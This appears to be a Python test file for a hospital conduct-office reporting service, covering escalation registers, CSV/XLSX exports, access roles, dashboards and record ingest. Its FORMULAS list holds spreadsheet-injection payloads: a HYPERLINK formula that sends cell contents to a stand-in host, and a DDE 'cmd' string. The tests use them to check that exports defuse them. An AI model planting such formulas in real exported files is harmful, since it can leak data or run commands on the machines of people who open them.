        _withdrawn(withdrawn, at=DECIDED + timedelta(hours=1)),
        _decision(DecisionKind.MEASURE, key="m", as_of=_h(2026, 11, 3), rule_id="R-KICKBACK"),
    ]

    entries, counts = escalations(decisions)

    assert sorted((e.rule_id, e.escalate_to, e.subject) for e in entries) == [
        ("R-KICKBACK", EscalationTarget.JUDICIAL_ORGANS, "staff:S1105"),
        ("R-KICKBACK", EscalationTarget.LEADERSHIP_GROUP, "staff:S1105"),
        ("R-VENDOR-CUTOFF", EscalationTarget.REGULATOR, "company:YX-1"),
    ]
    by_target = {e.escalate_to: e for e in entries}
    assert by_target[EscalationTarget.LEADERSHIP_GROUP].escalate_to_zh == "领导小组"
    assert by_target[EscalationTarget.JUDICIAL_ORGANS].escalate_to_zh == "司法机关"
    assert by_target[EscalationTarget.LEADERSHIP_GROUP].case_id == _case_id(1)
    assert [(c.rule_id, c.count) for c in counts] == [("R-KICKBACK", 2), ("R-VENDOR-CUTOFF", 1)]
    assert rule_counts([]) == []
    assert rule_counts(entries) == counts
    assert rule_counts(entries[::-1]) == counts  # by rule id, whatever the order of entries


def test_notice_register() -> None:
    notice = _decision(
        DecisionKind.NOTICE,
        key="n1",
        rule_id="R-RECTIFY",
        as_of=_h(2026, 11, 8),
        subject_kind=SubjectKind.DEPARTMENT,
        subject_id="laboratory",
        facts={"item": "检查结果互认"},
        explanation="检验科敷衍整改，通报批评。",
    )
    without_item = _decision(
        DecisionKind.NOTICE,
        key="n2",
        rule_id="R-RECTIFY",
        as_of=_h(2026, 11, 9),
        subject_kind=SubjectKind.DEPARTMENT,
        subject_id="imaging",
    )

    register = notices(
        [without_item, notice, _decision(DecisionKind.MEASURE, key="m", as_of=NOV_START)],
        CATALOGUE,
    )

    assert [(n.department, n.item, n.as_of) for n in register] == [
        ("laboratory", "检查结果互认", _h(2026, 11, 8)),
        ("imaging", "", _h(2026, 11, 9)),
    ]
    assert [(n.department_zh, n.department_en) for n in register] == [
        ("检验科", "Clinical Laboratory"),
        ("医学影像科", "Medical Imaging"),
    ]
    assert register[0].explanation_zh == "检验科敷衍整改，通报批评。"


# --- exports --------------------------------------------------------------------------------

COLUMNS = [("case_id", "案件编号"), ("department", "科室"), ("days", "逾期天数"), ("note", "说明")]
ROWS: list[dict[str, object]] = [
    {
        "case_id": _case_id(1),
        "department": "普通精神科",
        "days": 20,
        "note": '含逗号, "引号"\n换行',
    },
    {"case_id": _case_id(2), "department": "药剂科", "days": 0, "note": None},
    {"case_id": _case_id(3), "department": "检验科", "days": Decimal("0.6667")},
]


def _csv(
    rows: list[dict[str, object]], columns: list[tuple[str, str]]
) -> tuple[bytes, list[list[str]]]:
    response = table(rows, columns, fmt=ExportFormat.CSV, filename="逾期案件", sheet="逾期案件")
    body = bytes(response.body)
    return body, list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_csv_starts_with_a_bom_and_has_chinese_headers() -> None:
    response = table(ROWS, COLUMNS, fmt=ExportFormat.CSV, filename="逾期案件", sheet="逾期案件")

    assert bytes(response.body).startswith(b"\xef\xbb\xbf")
    assert response.media_type == "text/csv; charset=utf-8"
    _, parsed = _csv(ROWS, COLUMNS)
    assert parsed[0] == ["案件编号", "科室", "逾期天数", "说明"]


def test_csv_values_round_trip() -> None:
    _, parsed = _csv(ROWS, COLUMNS)

    assert parsed[1:] == [
        [_case_id(1), "普通精神科", "20", '含逗号, "引号"\n换行'],
        [_case_id(2), "药剂科", "0", ""],  # None is an empty cell
        [_case_id(3), "检验科", "0.6667", ""],  # a missing field too
    ]


@given(
    cells=st.lists(
        st.lists(
            st.text(st.characters(codec="utf-8", exclude_characters="\x00")),
            min_size=2,
            max_size=2,
        ),
        max_size=5,
    )
)
@settings(max_examples=50, deadline=None)
def test_csv_round_trips_any_text(cells: list[list[str]]) -> None:
    columns = [("a", "甲"), ("b", "乙")]
    rows: list[dict[str, object]] = [{"a": a, "b": b} for a, b in cells]

    _, parsed = _csv(rows, columns)

    # Text a spreadsheet would run comes back behind the quote that stops it.
    def written(text: str) -> str:
        return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text

    assert parsed == [["甲", "乙"], *([written(text) for text in row] for row in cells)]


def test_xlsx_opens_with_chinese_headers_and_rows() -> None:
    response = table(ROWS, COLUMNS, fmt=ExportFormat.XLSX, filename="逾期案件", sheet="逾期案件")

    assert response.media_type == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(bytes(response.body)))
    assert workbook.sheetnames == ["逾期案件"]
    rows = list(workbook["逾期案件"].iter_rows(values_only=True))
    assert rows[0] == ("案件编号", "科室", "逾期天数", "说明")
    assert rows[1] == (_case_id(1), "普通精神科", 20, '含逗号, "引号"\n换行')
    assert rows[2][:3] == (_case_id(2), "药剂科", 0)
    assert rows[2][3] in (None, "")
    assert rows[3][:3] == (_case_id(3), "检验科", 0.6667)  # a number, not text
    assert len(rows) == 1 + len(ROWS)


def test_xlsx_sheet_name_is_cut_to_31_characters() -> None:
    sheet = "普通精神科" * 8
    response = table(ROWS, COLUMNS, fmt=ExportFormat.XLSX, filename="x", sheet=sheet)
    workbook = openpyxl.load_workbook(io.BytesIO(bytes(response.body)))
    assert workbook.sheetnames == [sheet[:31]]


def test_monthly_report_exports_as_xlsx() -> None:
    report = _report(DEPT)
    response = table(
        monthly_rows(report),
        MONTHLY_COLUMNS,
        fmt=ExportFormat.XLSX,
        filename=f"月度工作开展情况-{DEPT}-{MONTH}",
        sheet=f"{report.department_zh}{MONTH}",
    )
    sheet = openpyxl.load_workbook(io.BytesIO(bytes(response.body)))["普通精神科2026-11"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("部分", "项目", "数值", "说明")
    assert ("基本情况", "合计", report.basic.total) == rows[1][:3]


@pytest.mark.parametrize("fmt", [ExportFormat.CSV, ExportFormat.XLSX])
def test_download_name_is_percent_encoded_utf8(fmt: ExportFormat) -> None:
    name = "月度工作开展情况-general_psychiatry-2026-11"
    response = table(ROWS, COLUMNS, fmt=fmt, filename=name, sheet="s")
    disposition = response.headers["content-disposition"]

    assert disposition.isascii()
    prefix = "attachment; filename*=UTF-8''"
    assert disposition.startswith(prefix)
    encoded = disposition.removeprefix(prefix)
    assert re.fullmatch(r"[A-Za-z0-9%._~-]+", encoded)
    assert unquote(encoded, encoding="utf-8", errors="strict") == f"{name}.{fmt}"


# Text a spreadsheet would run as a formula (OWASP's CSV injection triggers), as a rectification
# item or an explanation can carry it.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"点此查看")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
TEXT_COLUMNS = [("item", "整改事项"), ("n", "数量")]


def test_csv_neutralises_text_a_spreadsheet_would_run_but_keeps_numbers() -> None:
    rows: list[dict[str, object]] = [{"item": text, "n": -5} for text in FORMULAS]
    rows += [
        {"item": "检查结果互认 = 未落实", "n": Decimal("-0.25")},
        {"item": "a-b", "n": 0},
    ]

    _, parsed = _csv(rows, TEXT_COLUMNS)

    assert parsed[1:] == [
        *(["'" + text, "-5"] for text in FORMULAS),
        ["检查结果互认 = 未落实", "-0.25"],  # negative numbers are numbers, not formulas
        ["a-b", "0"],
    ]


def _xlsx(rows: list[dict[str, object]], columns: list[tuple[str, str]]) -> tuple[bytes, Worksheet]:
    response = table(rows, columns, fmt=ExportFormat.XLSX, filename="通报", sheet="通报")
    body = bytes(response.body)
    return body, openpyxl.load_workbook(io.BytesIO(body))["通报"]


def _sheet_xml(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_xlsx_writes_text_a_spreadsheet_would_run_as_text_and_numbers_as_numbers() -> None:
    rows: list[dict[str, object]] = [{"item": text, "n": -5} for text in FORMULAS]
    rows.append({"item": "普通文字", "n": Decimal("-0.25")})

    body, sheet = _xlsx(rows, TEXT_COLUMNS)

    assert "<f>" not in _sheet_xml(body)
    for index, text in enumerate(FORMULAS, start=2):
        item, n = sheet.cell(index, 1), sheet.cell(index, 2)
        # XML reads a carriage return back as a line feed; either way the cell is text.
        assert (item.value, item.data_type) == (text.replace("\r", "\n"), "s")
        assert item.quotePrefix, "kept as text when edited"
        assert (n.value, n.data_type) == (-5, "n")
    last = len(rows) + 1
    assert (sheet.cell(last, 1).value, sheet.cell(last, 2).value) == ("普通文字", -0.25)
    assert sheet.cell(last, 2).data_type == "n"


@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1))
@settings(max_examples=100, deadline=None)
def test_no_text_becomes_a_formula_in_either_format(text: str) -> None:
    rows: list[dict[str, object]] = [{"item": text, "n": 1}]

    _, parsed = _csv(rows, TEXT_COLUMNS)
    (cell, _) = parsed[1]
    assert cell[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert cell in (text, "'" + text)

    body, sheet = _xlsx(rows, TEXT_COLUMNS)
    assert "<f>" not in _sheet_xml(body)
    assert sheet.cell(2, 1).data_type == "s"


TYPED_COLUMNS = [
    ("at", "日期时间"),
    ("day", "日期"),
    ("share", "比例"),
    ("count", "件数"),
    ("in_force", "是否在期"),
    ("note", "说明"),
]
TYPED_ROWS: list[dict[str, object]] = [
    {
        "at": datetime(2026, 11, 8, 2, 30, tzinfo=UTC),  # 10:30 in the hospital
        "day": date(2026, 11, 8),
        "share": Percent(Decimal("0.1429")),
        "count": 7,
        "in_force": True,
        "note": "儿童青少年精神科未开展专题学习，已通报",
    },
    {
        "at": None,
        "day": date(2028, 11, 7),
        "share": Percent(Decimal("1")),
        "count": 0,
        "in_force": False,
        "note": "",
    },
]


def test_xlsx_stores_dates_as_dates_and_numbers_as_numbers_in_the_hospital_s_time() -> None:
    _, sheet = _xlsx(TYPED_ROWS, TYPED_COLUMNS)

    at, day, share, count, in_force = (sheet.cell(2, column) for column in range(1, 6))
    # A number with a date format, which openpyxl reads back as a datetime.
    assert at.value == datetime(2026, 11, 8, 10, 30)
    assert at.number_format == "yyyy-mm-dd hh:mm"
    assert day.value == datetime(2026, 11, 8)
    assert day.number_format == "yyyy-mm-dd"
    assert (share.value, share.data_type, share.number_format) == (0.1429, "n", "0.00%")
    assert (count.value, count.data_type) == (7, "n")
    assert in_force.value == "是"
    assert sheet["E3"].value == "否"
    assert sheet["A3"].value is None


def test_csv_writes_moments_in_the_hospital_s_time_and_rates_as_percentages() -> None:
    _, parsed = _csv(TYPED_ROWS, TYPED_COLUMNS)

    assert parsed[1][:5] == ["2026-11-08 10:30", "2026-11-08", "14.29%", "7", "是"]
    assert parsed[2][:5] == ["", "2028-11-07", "100.00%", "0", "否"]


def test_xlsx_has_a_frozen_header_a_filter_and_columns_wide_enough() -> None:
    _, sheet = _xlsx(TYPED_ROWS, TYPED_COLUMNS)

    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F3"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEF"}
    # A Chinese character takes two character widths.
    assert widths["F"] >= 2 * len("儿童青少年精神科未开展专题学习，已通报") > widths["A"]
    assert widths["A"] >= len("2026-11-08 10:30")
    assert all(
        width >= 2 * len(header)
        for (_, header), width in zip(TYPED_COLUMNS, widths.values(), strict=True)
    )


# --- access ---------------------------------------------------------------------------------


def test_a_department_head_reads_only_their_own_department() -> None:
    head = Viewer("tok-1", Role.DEPARTMENT_HEAD, DEPT)

    assert head.department_scope(None) == DEPT
    assert head.department_scope(DEPT) == DEPT
    with pytest.raises(HTTPException) as refused:
        head.department_scope(OTHER)
    assert refused.value.status_code == 403


@pytest.mark.parametrize("role", [Role.CONDUCT_OFFICE, Role.AUDITOR])
@pytest.mark.parametrize("asked", [None, DEPT, OTHER])
def test_the_office_and_auditors_read_what_they_ask(role: Role, asked: str | None) -> None:
    assert Viewer("tok-1", role, None).department_scope(asked) == asked


def test_require() -> None:
    office = Viewer("tok-1", Role.CONDUCT_OFFICE, None)
    auditor = Viewer("tok-2", Role.AUDITOR, None)
    head = Viewer("tok-3", Role.DEPARTMENT_HEAD, DEPT)

    office.require(Role.CONDUCT_OFFICE)
    head.require(Role.DEPARTMENT_HEAD, Role.CONDUCT_OFFICE)
    for viewer in (auditor, head):
        with pytest.raises(HTTPException) as refused:
            viewer.require(Role.CONDUCT_OFFICE)
        assert refused.value.status_code == 403
        assert "行风办" in str(refused.value.detail)
    with pytest.raises(HTTPException):
        auditor.require(Role.DEPARTMENT_HEAD, Role.CONDUCT_OFFICE)


# --- dashboard ------------------------------------------------------------------------------


def test_bars_tallest_is_full_height() -> None:
    drawn = bars([("2026-10", 10), ("2026-11", 5), ("2026-12", 0)])

    assert [bar.label for bar in drawn] == ["2026-10", "2026-11", "2026-12"]
    assert [bar.value for bar in drawn] == [10, 5, 0]
    assert [bar.height for bar in drawn] == [CHART_HEIGHT, CHART_HEIGHT / 2, 0]
    assert [bar.y for bar in drawn] == [0, CHART_HEIGHT / 2, CHART_HEIGHT]
    width = (CHART_WIDTH - 4 * BAR_GAP) / 3
    assert all(bar.width == pytest.approx(width) for bar in drawn)
    assert drawn[0].x == BAR_GAP
    assert drawn[-1].x + drawn[-1].width + BAR_GAP == pytest.approx(CHART_WIDTH)


def test_bars_of_zeros_and_of_nothing() -> None:
    assert bars([]) == []
    drawn = bars([("a", 0), ("b", 0)])
    assert [(bar.height, bar.y) for bar in drawn] == [(0, CHART_HEIGHT), (0, CHART_HEIGHT)]


@given(values=st.lists(st.integers(min_value=0, max_value=10**6), min_size=1, max_size=40))
def test_bars_fit_the_chart_in_proportion(values: list[int]) -> None:
    drawn = bars([(str(i), v) for i, v in enumerate(values)])
    top = max(values)

    for bar, value in zip(drawn, values, strict=True):
        assert bar.width > 0
        assert bar.y + bar.height == pytest.approx(CHART_HEIGHT)
        assert 0 <= bar.height <= CHART_HEIGHT
        if top:
            assert bar.height == pytest.approx(CHART_HEIGHT * value / top)
    if top:
        assert max(bar.height for bar in drawn) == CHART_HEIGHT
    for left, right in itertools.pairwise(drawn):
        assert right.x == pytest.approx(left.x + left.width + BAR_GAP)
    assert drawn[-1].x + drawn[-1].width <= CHART_WIDTH + 1e-9


def test_last_months_across_a_year_boundary() -> None:
    assert last_months(date(2027, 2, 10), 4) == ["2026-11", "2026-12", "2027-01", "2027-02"]
    assert last_months(date(2026, 12, 31), 1) == ["2026-12"]
    assert last_months(date(2027, 3, 31), 2) == ["2027-02", "2027-03"]
    assert last_months(date(2027, 1, 1), 0) == []


@given(
    today=st.dates(min_value=date(1971, 1, 1), max_value=date(2200, 12, 31)),
    count=st.integers(min_value=1, max_value=36),
)
def test_last_months_are_consecutive_and_end_this_month(today: date, count: int) -> None:
    months = last_months(today, count)

    assert len(months) == count
    assert months[-1] == today.strftime("%Y-%m")
    indexes = [int(m[:4]) * 12 + int(m[5:]) - 1 for m in months]
    assert indexes == list(range(indexes[0], indexes[0] + count))


# --- ingest: records into the store, a batch at a time ----------------------------------------
# The application layer on the store's in-memory twin; tests/integration/test_reporting_store.py
# holds the same promises on the real store.


def _ingest(store: ReportStore | None = None) -> Ingest:
    return Ingest(store or ReportStore(MemoryDocuments()), departments=CATALOGUE)


def _at(value: Any, offset: int, *, topic: str = "facts", partition: int = 0) -> Received[Any]:
    """``value`` as record ``offset`` of a partition."""
    return Received(value, topic, partition, offset)


_COUNTED_TYPES = st.sampled_from(["complaint", "satisfaction", "visitor_log"])


@given(st.lists(st.tuples(_COUNTED_TYPES, st.integers(0, 6)), min_size=1, max_size=40))
async def test_each_record_counts_once_however_often_it_is_delivered_again(
    records: list[tuple[str, int]],
) -> None:
    """Batch n ends with record n and starts ``rewind`` records earlier: delivered again from
    an earlier commit, as after a crash."""
    ingest = _ingest()
    events = [_event(event_type, ref=str(n)) for n, (event_type, _) in enumerate(records)]
    counted: Counter[str] = Counter()
    for offset, (_, rewind) in enumerate(records):
        start = max(0, offset - rewind)
        counted += await ingest.facts([_at(events[n], n) for n in range(start, offset + 1)])

    assert dict(await ingest.store.month_counts(MONTH)) == Counter(_key(e) for e in events)
    assert counted == Counter(event.event_type for event in events)  # type: ignore[attr-defined]
    stored = await ingest.store.counts.load(count_document_id("facts", 0, MONTH))
    assert stored.value is not None
    assert stored.value.offset == len(records) - 1


async def test_two_instances_counting_the_same_records_at_once_count_each_once() -> None:
    """Around a rebalance, two instances may handle the same records of a partition, each in
    the partition's order (from the last commit)."""
    store = ReportStore(MemoryDocuments())
    events = [_event("satisfaction", ref=str(n)) for n in range(30)]
    batches = [[_at(events[n], n) for n in range(start, start + 10)] for start in (0, 10, 20)]

    async def in_order(instance: Ingest) -> Counter[str]:
        return sum([await instance.facts(batch) for batch in batches], Counter())

    counted = await asyncio.gather(in_order(_ingest(store)), in_order(_ingest(store)))

    assert dict(await store.month_counts(MONTH)) == {_key(events[0]): 30}
    assert sum(counted, Counter()) == {"satisfaction": 30}


async def test_a_count_document_per_partition_and_month() -> None:
    ingest = _ingest()
    november, december = _event("complaint"), _event("complaint", occurred_at=_h(2026, 12, 1))
    await ingest.facts([_at(november, 0), _at(december, 1), _at(november, 2)])
    await ingest.facts([_at(november, 0, partition=1)])

    stored = {
        key: (kept.value.offset, sum(tally.count for tally in kept.value.tallies))
        for month in (MONTH, "2026-12")
        for key, kept in (await ingest.store.counts.find(month=month)).items()
        if kept.value is not None
    }
    assert stored == {
        "facts|0|2026-11": (2, 2),
        "facts|0|2026-12": (1, 1),
        "facts|1|2026-11": (0, 1),
    }


async def test_dead_letters_count_under_no_department_in_the_month_they_were_dead_lettered() -> (
    None
):
    ingest = _ingest()
    letter = DeadLetter(
        dead_letter_id=uuid.uuid4(),
        source_topic="qinglian.complaints.v1",
        source_partition=0,
        source_offset=7,
        reason="invalid",
        problems=(Problem(field="event_type", reason="missing"),),
        original=b"{}",
        failed_in="intake",
        attempts=1,
        dead_lettered_at=_h(2026, 11, 30, 23, 30),
    )
    assert await ingest.dead_letters([_at(letter, 4, topic="dead")]) == {DEAD_LETTER: 1}
    assert await ingest.dead_letters([_at(letter, 4, topic="dead")]) == {}
    key = CountKey(month=MONTH, department=None, event_type=DEAD_LETTER)
    assert await ingest.store.month_counts(MONTH) == [(key, 1)]


@given(st.permutations(range(5)), st.integers(1, 3))
async def test_a_case_s_highest_revision_is_kept_in_any_order_and_shown_to_the_reports(
    order: list[int], size: int
) -> None:
    ingest = _ingest()
    case = routed_case(complaint_event(source_ref="REV-1"), now=_h(2026, 11, 2))
    revisions = [case.model_copy(update={"revision": n + 1}) for n in order]
    for start in range(0, len(revisions), size):
        batch = [_at(r, n, topic="cases") for n, r in enumerate(revisions[start : start + size])]
        await ingest.cases(batch)
    await ingest.cases([_at(revisions[0], 0, topic="cases")])  # delivered again

    latest = case_fact(case.model_copy(update={"revision": 5}))
    assert await ingest.store.case(case.case_id) == latest
    assert await ingest.store.cases_opened(latest.month) == [
        CaseFact.model_validate(latest.model_dump(exclude={"history"}))
    ]


async def test_a_batch_of_cases_cut_short_by_the_store_shows_every_case_when_handled_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The store went away after the cases were saved, before the reports were shown them; the
    consumer hands the batch over again (nothing was committed): every case is counted."""
    ingest = _ingest()
    cases = [
        routed_case(complaint_event(source_ref=f"CUT-{n}"), now=_h(2026, 11, 2)) for n in range(3)
    ]
    batch = [_at(case, n, topic="cases") for n, case in enumerate(cases)]

    async def store_gone(*_: object, **__: object) -> set[str]:
        raise AutoReconnect("connection closed")

    with monkeypatch.context() as cut:
        cut.setattr(ingest.store.case_facts, "insert_many", store_gone)
        with pytest.raises(AutoReconnect):
            await ingest.cases(batch)
    await ingest.cases(batch)

    opened = await ingest.store.cases_opened(report_month(_h(2026, 11, 2)))
    assert sorted(fact.case_id for fact in opened) == sorted(case.case_id for case in cases)


async def test_two_instances_keeping_a_case_at_once_leave_its_latest_revision() -> None:
    store = ReportStore(MemoryDocuments())
    case = routed_case(complaint_event(source_ref="REV-2"), now=_h(2026, 11, 2))
    revisions = [case.model_copy(update={"revision": n}) for n in range(1, 9)]

    await asyncio.gather(
        *(
            _ingest(store).cases([_at(revision, n, topic="cases")])
            for n, revision in enumerate(revisions)
        )
    )

    assert (await store.case(case.case_id)) == case_fact(revisions[-1])
    (shown,) = await store.cases_opened(case_fact(case).month)
    assert shown.revision == 8


class _HeldBack:
    """Records whose writes wait until ``go`` is set: an instance slowed down between saving a
    case and showing it to the reports."""

    def __init__(self, records: Records[CaseFact]) -> None:
        self.records = records
        self.waiting, self.go = asyncio.Event(), asyncio.Event()

    def __getattr__(self, name: str) -> Any:
        return getattr(self.records, name)

    async def insert_many(self, values: Mapping[str, CaseFact]) -> set[str]:
        self.waiting.set()
        await self.go.wait()
        return await self.records.insert_many(values)

    async def put_many(self, values: Mapping[str, CaseFact]) -> None:
        self.waiting.set()
        await self.go.wait()
        await self.records.put_many(values)


async def test_an_instance_showing_an_older_revision_last_shows_the_latest_after_all() -> None:
    documents = MemoryDocuments()
    slow_store, store = ReportStore(documents), ReportStore(documents)
    held_back = _HeldBack(slow_store.case_facts)
    slow_store.case_facts = cast(Records[CaseFact], held_back)
    case = routed_case(complaint_event(source_ref="REV-3"), now=_h(2026, 11, 2))
    newer = case.model_copy(update={"revision": 2})

    slow = asyncio.create_task(_ingest(slow_store).cases([_at(case, 0, topic="cases")]))
    await held_back.waiting.wait()  # saved, not shown yet
    await _ingest(store).cases([_at(newer, 1, topic="cases")])
    held_back.go.set()
    await slow

    assert await store.case(case.case_id) == case_fact(newer)
    (shown,) = await store.cases_opened(case_fact(case).month)
    assert shown.revision == 2


class _Crashing:
    """Case facts whose first writes fail: the process died after saving a case, before
    showing its facts."""

    def __init__(self, records: Records[CaseFact]) -> None:
        self.records, self.crashed = records, False

    def __getattr__(self, name: str) -> Any:
        return getattr(self.records, name)

    async def _crash_once(self) -> None:
        if not self.crashed:
            self.crashed = True
            raise ConnectionError("killed")

    async def insert_many(self, values: Mapping[str, CaseFact]) -> set[str]:
        await self._crash_once()
        return await self.records.insert_many(values)

    async def put_many(self, values: Mapping[str, CaseFact]) -> None:
        await self._crash_once()
        await self.records.put_many(values)


async def test_a_case_saved_before_a_crash_is_shown_when_its_batch_comes_again() -> None:
    store = ReportStore(MemoryDocuments())
    crashing = _Crashing(store.case_facts)
    store.case_facts = cast(Records[CaseFact], crashing)
    case = routed_case(complaint_event(source_ref="CRASH-1"), now=_h(2026, 11, 2))
    batch = [_at(case, 0, topic="cases")]

    with pytest.raises(ConnectionError):
        await _ingest(store).cases(batch)
    await _ingest(store).cases(batch)  # uncommitted: delivered again after the restart

    (shown,) = await store.cases_opened(case_fact(case).month)
    assert shown.case_id == case.case_id


async def test_a_decision_and_a_session_are_kept_once() -> None:
    ingest = _ingest()
    decision = _decision(DecisionKind.NOTICE, key="k", as_of=_h(2026, 11, 2))
    assert await ingest.decisions([_at(decision, 0, topic="d")]) == [decision]
    assert await ingest.decisions([_at(decision.model_copy(), 0, topic="d")]) == []
    session = _session("child_psychiatry", date(2026, 11, 12), ["S1301"])
    await ingest.facts([_at(session, 0)])
    again = session.model_copy(update={"headcount": 99})
    await ingest.facts([_at(again, 0, partition=1)])  # another record of the same event
    assert await ingest.store.decisions_of(DecisionKind.NOTICE) == [decision]
    (kept,) = await ingest.store.sessions_held(MONTH, "child_psychiatry")
    assert kept.headcount == session.headcount


@given(st.permutations(range(4)))
async def test_the_latest_observation_by_event_time_stands(order: list[int]) -> None:
    ingest = _ingest()
    observations = [
        _event("kpi_observation", occurred_at=_h(2026, 11, 10 + day), value=f"{day}.5")
        for day in range(4)
    ]
    for offset, day in enumerate(order):
        await ingest.facts([_at(observations[day], offset)])
    (latest,) = await ingest.store.latest_observations("addiction_medicine", MONTH)
    assert latest.value == Decimal("3.5")


# --- reports: what the store holds, read as the reports need it -------------------------------


async def _stored(store: ReportStore) -> None:
    """This module's month (its counts, cases, decisions, KPI observations, sessions and
    confirmations) in ``store``, as ingest keeps them."""
    by_month: dict[str, list[tuple[CountKey, int]]] = {}
    for key, n in COUNTS:
        by_month.setdefault(key.month, []).append((key, n))
    for month, counts in by_month.items():
        tallies = tuple(Tally(key=key, count=n) for key, n in counts)
        document = CountDocument(topic="t", partition=0, month=month, offset=0, tallies=tallies)
        assert await store.counts.save(count_document_id("t", 0, month), document, over=0)
    await store.case_facts.put_many({case.case_id: case for case in CASES})
    await store.decisions.insert_many({str(d.event_id): d for d in DECISIONS})
    await store.observations.insert_many(
        {
            str(event.event_id): event
            for observation in OBSERVATIONS
            for event in [
                cast(
                    KpiObservationReceived,
                    _event("kpi_observation", **observation.model_dump(mode="json")),
                )
            ]
        }
    )
    await store.sessions.insert_many(
        {str(s.event_id): HeldSession.model_validate_json(s.model_dump_json()) for s in SESSIONS}
    )
    await store.confirmations.insert_many({f"{c.department}|{c.month}": c for c in CONFIRMATIONS})


@pytest.fixture
async def reports() -> Reports:
    store = ReportStore(MemoryDocuments())
    await _stored(store)
    return Reports(store, catalogue=CATALOGUE, targets=TARGETS, study=STUDY, clock=lambda: LATER)


@pytest.mark.parametrize("month", ["2026-10", MONTH, "2026-12"])
@pytest.mark.parametrize("department", [None, DEPT, OTHER, "nursing"])
async def test_a_monthly_report_read_from_the_store_is_the_report_of_everything_it_holds(
    reports: Reports, month: str, department: str | None
) -> None:
    """The store is read by month, department, open or overdue, kind: what a report shows."""
    assert await reports.monthly(month, department) == _report(department, month=month)


@pytest.mark.parametrize("department", [None, DEPT, OTHER])
async def test_the_dashboard_read_from_the_store_counts_every_case_it_shows(
    reports: Reports, department: str | None
) -> None:
    reports = Reports(
        reports.store, catalogue=CATALOGUE, targets=TARGETS, study=STUDY, clock=lambda: NOV_END
    )
    shown = await reports.dashboard(department)
    mine = [c for c in CASES if department in (None, c.department)]
    assert shown.report == _report(department, now=NOV_END, month="2026-12")
    assert shown.open_cases == sum(case.closed_at is None for case in mine)
    assert shown.overdue_cases == sum(case.overdue(NOV_END) for case in mine)
    assert shown.trend == [
        (month[2:], sum(case.month == month for case in mine))
        for month in last_months(NOV_END.date(), 12)
    ]


async def test_registers_read_from_the_store_are_those_of_every_decision(
    reports: Reports,
) -> None:
    today = LATER.date()
    assert await reports.promotion_bars() == promotion_bars(DECISIONS, today=today)
    assert await reports.vendor_cutoffs() == vendor_cutoffs(DECISIONS)
    assert await reports.notices(None) == notices(DECISIONS, CATALOGUE)
    everyone = escalations(DECISIONS)
    assert await reports.escalations(None) == everyone
    entries = [e for e in everyone[0] if e.case_id == OTHER_OVERDUE.case_id]
    assert await reports.escalations(OTHER) == (entries, rule_counts(entries))
